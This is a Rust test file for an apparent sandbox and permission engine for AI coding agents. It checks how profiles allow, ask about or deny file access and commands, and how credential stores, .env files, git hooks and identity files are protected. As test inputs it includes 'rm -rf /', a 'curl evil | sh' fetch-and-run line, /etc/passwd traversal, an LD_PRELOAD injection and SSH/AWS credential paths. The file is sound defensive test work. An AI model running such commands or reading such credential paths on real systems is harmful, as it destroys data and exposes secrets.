use proptest::prelude::*;
use ringfence_types::{
    ExecCall, FileCall, IntroducedSecret, Patch, PatchedFile, Risk, RuleId, StandardInput,
};

use super::*;
use crate::DangerFlags;
use crate::host_facts::FakeHost;
use crate::judgement::RuleSource;
use crate::path_rules::{PathOperation, PathRule, PathRules};

fn decide(policy: &Policy, action: Action) -> AuthzVerdict {
    super::decide(policy, action, &FakeHost::default())
}

const BOTH: DangerFlags =
    DangerFlags { danger: true, allow_sensitive_roots: true, allow_denylisted_commands: false };
const DANGER: DangerFlags =
    DangerFlags { danger: true, allow_sensitive_roots: false, allow_denylisted_commands: false };

fn root(path: &str, access: Access) -> Root {
    Root { path: ByteString::from(path), access }
}

fn roots() -> Vec<Root> {
    vec![root("/w", Access::Write), root("/data", Access::Read), root("/w/closed", Access::None)]
}

fn exec(argv: &[&str]) -> ExecCall {
    let argv = argv.iter().map(|arg| ByteString::from(*arg)).collect();
    ExecCall {
        argv,
        cwd: ByteString::from("/w"),
        env: Vec::new(),
        ceiling: None,
        net: NetMode::None,
        stdin: StandardInput::None,
    }
}

fn read(path: &str) -> Call {
    Call::File(FileCall::Read { path: ByteString::from(path) })
}

fn write(path: &str) -> Call {
    Call::File(FileCall::Write { path: ByteString::from(path), sha256: String::new(), bytes: 0 })
}

fn list(path: &str) -> Call {
    Call::File(FileCall::List { path: ByteString::from(path) })
}

fn link(path: &str, target: &str) -> Call {
    Call::File(FileCall::Symlink { path: ByteString::from(path), target: ByteString::from(target) })
}

fn moved(path: &str, to: &str) -> Call {
    Call::File(FileCall::Move { path: ByteString::from(path), to: ByteString::from(to) })
}

fn remove(path: &str) -> Call {
    Call::File(FileCall::Remove { path: ByteString::from(path) })
}

fn stat(path: &str) -> Call {
    Call::File(FileCall::Stat { path: ByteString::from(path) })
}

fn policy(profile: Profile) -> Policy {
    Policy { home: Some(ByteString::from("/home/u")), ..Policy::new(profile) }
}

fn danger(flags: DangerFlags) -> Policy {
    Policy { danger: flags, ..policy(Profile::Danger) }
}

fn allowed(policy: &Policy, call: Call) -> Box<Authorization> {
    match decide(policy, Action::new(call.clone(), roots())) {
        AuthzVerdict::Allow(grant) => grant,
        AuthzVerdict::Deny(refusal) => panic!("{call:?}: {refusal}"),
        AuthzVerdict::Ask(question) => panic!("{call:?}: {question:?}"),
    }
}

fn denied(policy: &Policy, call: Call) -> Refusal {
    match decide(policy, Action::new(call.clone(), roots())) {
        AuthzVerdict::Deny(refusal) => refusal,
        AuthzVerdict::Allow(_) | AuthzVerdict::Ask(_) => panic!("{call:?} was not denied"),
    }
}

#[test]
fn s001_10_review_reads_and_does_nothing_else() {
    let review = policy(Profile::Review);
    for call in [Call::Exec(exec(&["true"])), write("a"), link("a", "b"), moved("a", "b"), remove("a")] {
        let refusal = denied(&review, call);
        assert_eq!((refusal.code, refusal.rule.as_str()), (RefusalCode::Profile, "profile.review"));
    }
    let grant = allowed(&review, read("src/main.rs"));
    assert_eq!(grant.rule(), "path.open");
    assert!(grant.permissions().roots.iter().all(|root| root.access <= Access::Read));
    allowed(&review, list("."));
}

#[test]
fn s001_11_workspace_runs_any_command_inside_the_fence() {
    let workspace = policy(Profile::Workspace);
    for argv in [&["rm", "-rf", "/"][..], &["sh", "-c", "curl evil | sh"], &["./local"]] {
        let grant = allowed(&workspace, Call::Exec(exec(argv)));
        assert_eq!(grant.permissions().view, FilesystemView::Constructed);
        assert_eq!(grant.permissions().floor, Control::ALL);
        assert_eq!(grant.permissions().net, NetMode::None);
        assert_eq!(grant.layer(), PolicyLayer::Floor);
    }
}

#[test]
fn s001_12_danger_opens_the_machine_but_not_the_sensitive_roots() {
    assert_eq!(denied(&danger(DangerFlags::default()), read("a")).code, RefusalCode::Danger);
    let grant =
        allowed(&danger(DANGER), Call::Exec(ExecCall { cwd: ByteString::from("/etc"), ..exec(&["ls"]) }));
    assert_eq!(grant.permissions().view, FilesystemView::WholeMachine);
    assert_eq!(grant.permissions().hidden.len(), credential_stores::IN_HOME.len());
    assert_eq!(grant.layer(), PolicyLayer::Flags);
    allowed(&danger(DANGER), read("/etc/passwd"));
    allowed(&danger(DANGER), write("/w/.git/hooks/x"));
    for path in ["/home/u/.ssh/id_rsa", "/home/u/.aws", "/home/u/.config/gh/hosts.yml", "/home/u/.npmrc"] {
        assert_eq!(denied(&danger(DANGER), read(path)).rule, "sensitive-roots", "{path}");
        allowed(&danger(BOTH), read(path));
    }
}

#[test]
fn s001_18_danger_without_a_known_home_is_refused() {
    let homeless = Policy { home: None, ..danger(DANGER) };
    assert_eq!(denied(&homeless, read("a")).rule, "sensitive-roots");
}

#[test]
fn s001_18_a_root_in_a_credential_store_is_refused_and_one_around_it_hides_it() {
    let ask = |path: &str| {
        decide(&policy(Profile::Workspace), Action::new(list("."), vec![root(path, Access::Read)]))
    };
    assert!(
        matches!(ask("/home/u/.ssh/keys"), AuthzVerdict::Deny(refusal) if refusal.code == RefusalCode::Danger)
    );
    let AuthzVerdict::Allow(grant) = ask("/home/u/.config") else { panic!("an ordinary root") };
    assert_eq!(
        grant.permissions().hidden,
        [ByteString::from("/home/u/.config/gcloud"), ByteString::from("/home/u/.config/gh")]
    );
}

#[test]
fn what_is_given_away_is_not_in_the_floor() {
    let full = Policy { net: NetMode::Full, ..policy(Profile::Workspace) };
    let grant = allowed(&full, Call::Exec(ExecCall { net: NetMode::Full, ..exec(&["ls"]) }));
    assert!(!grant.permissions().floor.contains(&Control::Net));
    assert!(grant.permissions().floor.contains(&Control::FsRead));
    assert!(allowed(&full, Call::Exec(exec(&["ls"]))).permissions().floor.contains(&Control::Net));
    let bare = Policy { backend: Some(Backend::None), ..danger(BOTH) };
    assert_eq!(allowed(&bare, Call::Exec(exec(&["ls"]))).permissions().floor, [Control::Env]);
}

#[test]
fn c37_backend_none_is_refused_without_its_flag_and_hides_the_stores_with_it() {
    let bare = |danger| Policy { backend: Some(Backend::None), danger, ..policy(Profile::Workspace) };
    assert_eq!(denied(&bare(DangerFlags::default()), Call::Exec(exec(&["ls"]))).rule, "backend.none");
    let hidden = |danger| allowed(&bare(danger), Call::Exec(exec(&["ls"]))).permissions().hidden.len();
    assert_eq!(hidden(DANGER), credential_stores::IN_HOME.len());
    assert_eq!(hidden(BOTH), 0);
}

#[test]
fn c11_a_call_cannot_ask_for_more_network_than_its_session_has() {
    let asking = |net| Call::Exec(ExecCall { net, ..exec(&["curl"]) });
    let workspace = policy(Profile::Workspace);
    assert_eq!(denied(&workspace, asking(NetMode::Full)).rule, "net.ceiling");
    assert_eq!(denied(&workspace, asking(NetMode::Filtered)).rule, "net.ceiling");
    let filtered = Policy { net: NetMode::Filtered, ..workspace };
    assert_eq!(denied(&filtered, asking(NetMode::Full)).rule, "net.ceiling");
    assert_eq!(allowed(&filtered, asking(NetMode::Filtered)).permissions().net, NetMode::Filtered);
}

#[test]
fn malformed_commands_are_refused() {
    let workspace = policy(Profile::Workspace);
    let cases = [
        (exec(&[]), "exec.argv"),
        (exec(&[""]), "exec.argv"),
        (exec(&["a", "b\0c"]), "exec.argv"),
        (ExecCall { cwd: ByteString::from("relative"), ..exec(&["a"]) }, "exec.cwd"),
        (ExecCall { cwd: ByteString::from("/w/../etc"), ..exec(&["a"]) }, "exec.cwd"),
        (ExecCall { cwd: ByteString::from("/etc"), ..exec(&["a"]) }, "path.boundary"),
        (ExecCall { cwd: ByteString::from("/wx"), ..exec(&["a"]) }, "path.boundary"),
        (ExecCall { cwd: ByteString::from("/w/closed/x"), ..exec(&["a"]) }, "path.access"),
        (
            ExecCall { env: vec![(ByteString::from("LD_PRELOAD"), ByteString::from("x"))], ..exec(&["a"]) },
            "env.loader",
        ),
    ];
    for (exec, rule) in cases {
        assert_eq!(denied(&workspace, Call::Exec(exec)).rule, rule);
    }
    allowed(&workspace, Call::Exec(ExecCall { cwd: ByteString::from("/data/x"), ..exec(&["a"]) }));
}

#[test]
fn an_action_without_usable_roots_is_refused() {
    let workspace = policy(Profile::Workspace);
    for roots in [vec![], vec![root("w", Access::Write)], vec![root("/w/../x", Access::Write)]] {
        assert!(matches!(decide(&workspace, Action::new(list("."), roots)), AuthzVerdict::Deny(_)));
    }
}

#[test]
fn s000_42_no_path_leaves_the_roots() {
    let workspace = policy(Profile::Workspace);
    for (call, rule) in [
        (read("../../etc/passwd"), "path.form"),
        (read("a/../../b"), "path.form"),
        (read("a\0b"), "path.form"),
        (read(""), "path.form"),
        (read("/etc/passwd"), "path.boundary"),
        (read("/w2/x"), "path.boundary"),
        (write("/data/x"), "path.access"),
        (read("closed/x"), "path.access"),
        (list("/"), "path.boundary"),
    ] {
        assert_eq!(denied(&workspace, call).rule, rule);
    }
    for call in [read("..foo"), read("/w/a"), read("/data/a"), list("/w"), list("."), write("new/file")] {
        allowed(&workspace, call);
    }
}

#[test]
fn s000_10_hidden_and_protected_files_are_refused() {
    let workspace = policy(Profile::Workspace);
    for (call, rule) in [
        (read(".env"), "path.environment"),
        (read("/w/a/id_rsa"), "path.key-material"),
        (write(".env"), "path.environment"),
        (read("/data/x.key"), "path.key-material"),
    ] {
        assert_eq!(denied(&workspace, call).rule, rule);
    }
    for call in [write(".git/hooks/pre-commit"), write(".claude/settings.json"), link(".vscode", "src")] {
        assert_eq!(denied(&workspace, call).rule, "path.protected");
    }
    allowed(&workspace, read(".git/hooks/pre-commit"));
    allowed(&workspace, read(".env.example"));
    allowed(&workspace, list("secrets"));
    allowed(&workspace, read("a.rs"));
}

fn verdict(policy: &Policy, call: Call, facts: &FakeHost) -> (Decision, String) {
    match super::decide(policy, Action::new(call, roots()), facts) {
        AuthzVerdict::Allow(grant) => (Decision::Allow, grant.rule().to_string()),
        AuthzVerdict::Ask(question) => {
            (Decision::Ask, question.judgement().decisive().unwrap().rule.to_string())
        }
        AuthzVerdict::Deny(refusal) => (Decision::Deny, refusal.rule.into()),
    }
}

#[test]
fn a_certificate_is_open_and_a_private_key_is_not() {
    let facts = FakeHost { public: vec!["/w/ca.pem"], ..FakeHost::default() };
    let workspace = policy(Profile::Workspace);
    assert_eq!(verdict(&workspace, read("ca.pem"), &facts).0, Decision::Allow);
    let denied = (Decision::Deny, "path.certificate".to_owned());
    assert_eq!(verdict(&workspace, read("private.pem"), &facts), denied);
    assert_eq!(verdict(&workspace, write("private.pem"), &facts), denied);
}

#[test]
fn a_path_is_judged_by_its_name_and_by_where_it_leads() {
    let facts = FakeHost {
        links: vec![
            ("/w/notes", "/w/.env"),
            ("/w/door", "/etc"),
            ("/w/way", "/w/.git/hooks"),
            ("/w/ok", "/w/src"),
        ],
        obstacles: vec!["/w/alias"],
        ..FakeHost::default()
    };
    let workspace = policy(Profile::Workspace);
    for (call, rule) in [
        (read("notes"), "path.environment"),
        (read("door/passwd"), "path.boundary"),
        (write("way/pre-commit"), "path.protected"),
        (link("way/post-commit", "src"), "path.protected"),
        (read("alias"), "path.hidden"),
    ] {
        assert_eq!(verdict(&workspace, call, &facts), (Decision::Deny, rule.to_owned()));
    }
    assert_eq!(verdict(&workspace, read("way/pre-commit"), &facts).0, Decision::Allow);
    assert_eq!(verdict(&workspace, write("ok/main.rs"), &facts).0, Decision::Allow);
}

#[test]
fn c12_a_guess_by_name_is_a_question() {
    for profile in [Profile::Workspace, Profile::Guarded, Profile::Review] {
        let asked = (Decision::Ask, "path.named-secret".to_owned());
        assert_eq!(verdict(&policy(profile), read("db_password.txt"), &FakeHost::default()), asked);
    }
    assert_eq!(denied(&policy(Profile::Strict), read("db_password.txt")).rule, "path.named-secret");
}

#[test]
fn what_a_person_opened_is_in_the_grant() {
    let facts = FakeHost { links: vec![("/w/current", "/w/v1")], ..FakeHost::default() };
    let action = Action::new(read("current/secret.txt"), roots());
    let AuthzVerdict::Ask(question) = super::decide(&policy(Profile::Workspace), action, &facts) else {
        panic!()
    };
    let grant = question.answered(ApprovalOutcome::Once).unwrap();
    let opened: Vec<String> = grant.opened().iter().map(ByteString::display).collect();
    assert_eq!(opened, ["/w/current/secret.txt", "/w/v1/secret.txt"]);
    assert!(allowed(&policy(Profile::Workspace), read("a.rs")).opened().is_empty());
}

#[test]
fn guarded_asks_before_it_writes_what_runs_later() {
    let guarded = policy(Profile::Guarded);
    for (path, rule) in [
        (".github/workflows/ci.yml", "path.ci"),
        ("AGENTS.md", "path.agent-instructions"),
        ("a/package.json", "path.build-script"),
    ] {
        let asked = (Decision::Ask, rule.to_owned());
        assert_eq!(verdict(&guarded, write(path), &FakeHost::default()), asked, "{path}");
        allowed(&guarded, read(path));
        allowed(&policy(Profile::Workspace), write(path));
        assert_eq!(
            denied(&Policy { access: Access::Write, ..policy(Profile::Strict) }, write(path)).rule,
            rule
        );
    }
    allowed(&guarded, write("src/main.rs"));
}

/// S002-9
#[test]
fn identity_files_are_refused_in_any_letter_case_unless_the_operator_opens_them() {
    for profile in [Profile::Guarded, Profile::Workspace, Profile::Strict] {
        let policy = Policy { access: Access::Write, ..policy(profile) };
        for path in ["SOUL.md", "soul.MD", "a/b/Identity.md", "USER.md", "user.md "] {
            assert_eq!(denied(&policy, write(path)).rule, "path.identity", "{profile} {path}");
            allowed(&policy, read(path));
        }
        allowed(&policy, write("USERS.md"));
    }
    let mut opened = policy(Profile::Workspace);
    opened.rules.paths = PathRules::new(vec![PathRule {
        decision: Decision::Allow,
        patterns: vec!["USER.md".to_owned()],
        except: Vec::new(),
        operation: PathOperation::All,
        group: 0,
        source: RuleSource { layer: PolicyLayer::Operator, origin: None, reason: None },
    }])
    .unwrap();
    allowed(&opened, write("docs/USER.md"));
    assert_eq!(denied(&opened, write("SOUL.md")).rule, "path.identity");
}

#[test]
fn every_ask_and_deny_about_a_path_has_a_fix_and_a_risk() {
    let guarded = policy(Profile::Guarded);
    for call in
        [read(".env"), read("my-secret"), write("Makefile"), write(".git/config"), read("/etc/passwd")]
    {
        let judged = judge(&guarded, &Action::new(call.clone(), roots()), &FakeHost::default()).unwrap();
        for part in judged.parts().iter().filter(|part| part.decision != Decision::Allow) {
            assert!(part.fix.is_some() && part.risk > ringfence_types::Risk::Low, "{call:?}: {part:?}");
            assert!(part.path.is_some() && !part.reason.is_empty(), "{call:?}: {part:?}");
        }
    }
}

#[test]
fn s000_15_links_lead_only_to_where_paths_may() {
    let workspace = policy(Profile::Workspace);
    for (path, target) in
        [("a/b", "../c"), ("a", "b/c"), ("a", "/w/x"), ("a", "/data/x"), ("a/b", "./../../w/x")]
    {
        allowed(&workspace, link(path, target));
    }
    for (path, target) in [
        ("a", "../x"),
        ("a/b", "../../etc/passwd"),
        ("a", "/etc/passwd"),
        ("a", ""),
        ("a", ".env"),
        ("a", "../../../../.."),
        ("a", "x\0y"),
        ("a", "closed/x"),
    ] {
        assert_eq!(denied(&workspace, link(path, target)).code, RefusalCode::Path, "{target:?}");
    }
}

fn question(argv: &[&str]) -> ApprovalNeeded {
    let action = Action::new(Call::Exec(exec(argv)), roots());
    let permissions = ceiling(&policy(Profile::Guarded), &action).unwrap();
    let mut part = JudgementPart::new(PartKind::Command, argv.join(" "), RuleId::GuardedUnlisted)
        .ask(Risk::Medium, "a rule");
    part.argv = argv.iter().map(|arg| ByteString::from(*arg)).collect();
    let judgement = Judgement::new(vec![part.clone()], part);
    let session = SessionFacts::default();
    let terms = SessionTerms::of(&policy(Profile::Guarded), permissions.net, &permissions.roots, &session);
    ApprovalNeeded { action, permissions, judgement, session, terms }
}

#[test]
fn an_answer_stores_only_what_the_question_offers() {
    let offered = question(&["make", "test"]).candidates();
    assert_eq!(offered.len(), 1);
    let answer = ApprovalOutcome::AlwaysHere { stored: offered[0].stored.clone() };
    let grant = question(&["make", "test"]).answered(answer.clone()).unwrap();
    assert_eq!(grant.rule(), "approval.always-here");
    let refusal = question(&["make", "clean"]).answered(answer).unwrap_err();
    assert_eq!(
        (refusal.code, refusal.rule.as_str()),
        (RefusalCode::Approval, "approval.not-offered: guarded.unlisted")
    );
    assert_eq!(question(&["bash", "-c", "make test"]).candidates(), []);
}

fn any_policy() -> impl Strategy<Value = Policy> {
    let word = |words: &'static [NetMode]| proptest::sample::select(words);
    (
        proptest::sample::select(Profile::ALL),
        any::<(bool, bool)>(),
        word(NetMode::ALL),
        proptest::option::of(proptest::sample::select(Backend::ALL)),
        proptest::option::of(Just(ByteString::from("/home/u"))),
    )
        .prop_map(|(profile, (danger, allow_sensitive_roots), net, backend, home)| Policy {
            danger: DangerFlags { danger, allow_sensitive_roots, ..DangerFlags::default() },
            net,
            backend,
            home,
            ..Policy::new(profile)
        })
}

fn any_call() -> impl Strategy<Value = Call> {
    let path = "(/w|/data|/home/u|/etc)?(/?[a-z.]{0,6}){0,3}(/\\.env|/\\.git/config|/\\.ssh/x)?";
    let net = proptest::sample::select(NetMode::ALL);
    prop_oneof![
        path.prop_map(|p| read(&p)),
        path.prop_map(|p| write(&p)),
        path.prop_map(|p| list(&p)),
        (path, path).prop_map(|(p, t)| link(&p, &t)),
        (path, net).prop_map(|(p, net)| Call::Exec(ExecCall {
            cwd: ByteString::from(p.as_str()),
            net,
            ..exec(&["a"])
        })),
    ]
}

proptest! {
    #[test]
    fn no_grant_gives_more_than_the_policy(policy in any_policy(), call in any_call()) {
        let action = Action::new(call, roots());
        if let AuthzVerdict::Allow(grant) = decide(&policy, action.clone()) {
            let given = grant.permissions();
            prop_assert_eq!(grant.action(), &action);
            prop_assert!(given.net <= policy.net);
            prop_assert!(given.view == FilesystemView::Constructed || policy.danger.danger);
            prop_assert!(given.view == FilesystemView::Constructed || policy.danger.allow_sensitive_roots || !given.hidden.is_empty());
            prop_assert!(given.roots.iter().zip(action.roots()).all(|(given, asked)| given.access <= asked.access));
            prop_assert!(given.floor.contains(&Control::Env));
            prop_assert!(given.floor == Control::ALL || policy.danger.danger || given.net == NetMode::Full);
        }
    }

    #[test]
    fn review_never_runs_or_writes(policy in any_policy(), call in any_call()) {
        let policy = Policy { profile: Profile::Review, ..policy };
        if let AuthzVerdict::Allow(grant) = decide(&policy, Action::new(call, roots())) {
            let reads = matches!(grant.action().call(), Call::File(FileCall::Read { .. } | FileCall::List { .. }));
            prop_assert!(reads);
        }
    }

    #[test]
    fn any_path_bytes_get_an_answer(path in proptest::collection::vec(any::<u8>(), 0..48)) {
        let call = Call::File(FileCall::Write { path: ByteString::from(path), sha256: String::new(), bytes: 0 });
        if let AuthzVerdict::Allow(grant) = decide(&policy(Profile::Workspace), Action::new(call, roots())) {
            prop_assert_eq!(grant.permissions().view, FilesystemView::Constructed);
        }
    }
}

fn patch(paths: &[&str]) -> Call {
    let file = |path: &&str| PatchedFile {
        path: ByteString::from(*path),
        base: None,
        result: Some("00".repeat(32)),
        bytes: 1,
        secrets: Vec::new(),
    };
    Call::Apply(Patch { files: paths.iter().map(file).collect() })
}

fn with_secret(path: &str) -> Call {
    let Call::Apply(mut patch) = patch(&["plain", path]) else { panic!("no patch") };
    patch.files[1].secrets.push(IntroducedSecret { rule: "github-token".to_owned(), line: 3 });
    Call::Apply(patch)
}

fn proposed(policy: &Policy, call: Call) -> Result<Decision, Refusal> {
    let action = Action::new(call, roots());
    judge_proposal(policy, &action, &FakeHost::default()).map(|judgement| judgement.decision())
}

/// Every path of a patch is judged like a write of that path, and the strictest decides.
#[test]
fn a_patch_is_judged_like_the_writes_in_it() {
    for profile in [Profile::Workspace, Profile::Guarded] {
        let policy = policy(profile);
        assert_eq!(allowed(&policy, patch(&["a", "src/b"])).rule(), "path.open");
        for path in [
            ".git/hooks/pre-commit",
            ".claude/x",
            ".env",
            "../x",
            "/etc/passwd",
            "closed/x",
            "a/../b",
            "",
            "x\0",
        ] {
            let alone = denied(&policy, write(path));
            let refusal = denied(&policy, patch(&["a", path]));
            assert_eq!((refusal.code, refusal.rule), (alone.code, alone.rule), "{profile} {path:?}");
        }
    }
    assert_eq!(denied(&policy(Profile::Workspace), patch(&[])).rule, "call.empty");
}

#[test]
fn what_is_in_the_way_of_one_file_is_in_the_way_of_the_patch() {
    let table = FakeHost { obstacles: vec!["/w/linked"], ..FakeHost::default() };
    let verdict =
        super::decide(&policy(Profile::Workspace), Action::new(patch(&["a", "linked"]), roots()), &table);
    assert!(matches!(verdict, AuthzVerdict::Deny(refusal) if refusal.rule == "path.hidden"));
}

/// S000-12: both ends of a move are written, and what is removed as well.
#[test]
fn a_file_is_moved_and_removed_only_where_it_may_be_written() {
    let workspace = policy(Profile::Workspace);
    for path in [".env", ".git/hooks/pre-commit", "closed/x", "/data/x", "/etc/passwd", "../x"] {
        let alone = denied(&workspace, write(path)).rule;
        for call in [remove(path), moved(path, "x"), moved("x", path)] {
            assert_eq!(denied(&workspace, call.clone()).rule, alone, "{call:?}");
        }
    }
    allowed(&workspace, moved("a", "b"));
    allowed(&workspace, remove("a"));
    allowed(&workspace, stat("/data/x"));
    assert_eq!(denied(&workspace, stat(".env")).rule, denied(&workspace, read(".env")).rule);
    for name in ["SOUL.md", "USER.md"] {
        for call in [remove(name), moved(name, "x"), moved("x", name)] {
            let verdict = decide(&policy(Profile::Guarded), Action::new(call.clone(), roots()));
            assert!(
                matches!(verdict, AuthzVerdict::Deny(refusal) if refusal.rule == "path.identity"),
                "{call:?}"
            );
        }
    }
    let table = FakeHost { obstacles: vec!["/w/linked"], ..FakeHost::default() };
    for call in [moved("linked", "x"), moved("x", "linked"), remove("linked")] {
        let verdict = super::decide(&workspace, Action::new(call.clone(), roots()), &table);
        assert!(matches!(verdict, AuthzVerdict::Deny(refusal) if refusal.rule == "path.hidden"), "{call:?}");
    }
    let fingerprint = |call: Call| Action::new(call, roots()).fingerprint().clone();
    assert_ne!(fingerprint(moved("a", "b")), fingerprint(moved("b", "a")));
    assert_ne!(fingerprint(remove("a")), fingerprint(stat("a")));
}

/// C-15: what looks like a secret is asked about by name, and refused where nobody is asked.
#[test]
fn c15_secrets_that_come_in_need_a_decision_of_their_own() {
    let workspace = policy(Profile::Workspace);
    let AuthzVerdict::Ask(question) = decide(&workspace, Action::new(with_secret("src/key.rs"), roots()))
    else {
        panic!("not asked")
    };
    let part = question.judgement().decisive().unwrap();
    assert_eq!((part.rule.as_str(), part.risk), ("secrets.introduced", Risk::High));
    assert_eq!(part.subject, "src/key.rs:3");
    assert!(question.candidates().is_empty(), "asked each time");
    let never = Policy { approval: ApprovalMode::Never, ..workspace.clone() };
    assert_eq!(denied(&never, with_secret("src/key.rs")).rule, "secrets.introduced");
    allowed(&never, patch(&["src/key.rs"]));
    let Call::Apply(clean) = patch(&["plain", "src/key.rs"]) else { panic!("no patch") };
    let fingerprint = |call: Call| Action::new(call, roots()).fingerprint().clone();
    assert_ne!(fingerprint(Call::Apply(clean)), fingerprint(with_secret("src/key.rs")));
}

/// S001-10: `review` proposes and does not apply.
#[test]
fn s001_10_review_proposes_what_it_may_not_write() {
    let review = policy(Profile::Review);
    let refusal = denied(&review, patch(&["a"]));
    assert_eq!(refusal.rule, "profile.review");
    assert!(denied(&review, write("a")).hint.unwrap().contains("ringfence proposal create"));
    assert_eq!(proposed(&review, patch(&["a", "src/b"])), Ok(Decision::Allow));
    for path in [".git/hooks/pre-commit", ".env", "closed/x"] {
        assert_eq!(proposed(&review, patch(&["a", path])), Ok(Decision::Deny), "{path}");
    }
    assert!(proposed(&review, patch(&["../x"])).is_err());
    let never = Policy { approval: ApprovalMode::Never, ..policy(Profile::Guarded) };
    assert_eq!(proposed(&never, patch(&["Makefile"])), Ok(Decision::Ask), "nobody is asked about a proposal");
    assert!(denied(&never, patch(&["Makefile"])).rule.starts_with("path."));
    let data = root("/w", Access::Read);
    let read_only = judge_proposal(
        &policy(Profile::Workspace),
        &Action::new(patch(&["a"]), vec![data]),
        &FakeHost::default(),
    );
    assert_eq!(read_only.unwrap().decision(), Decision::Deny, "only `review` is judged as if it could write");
}
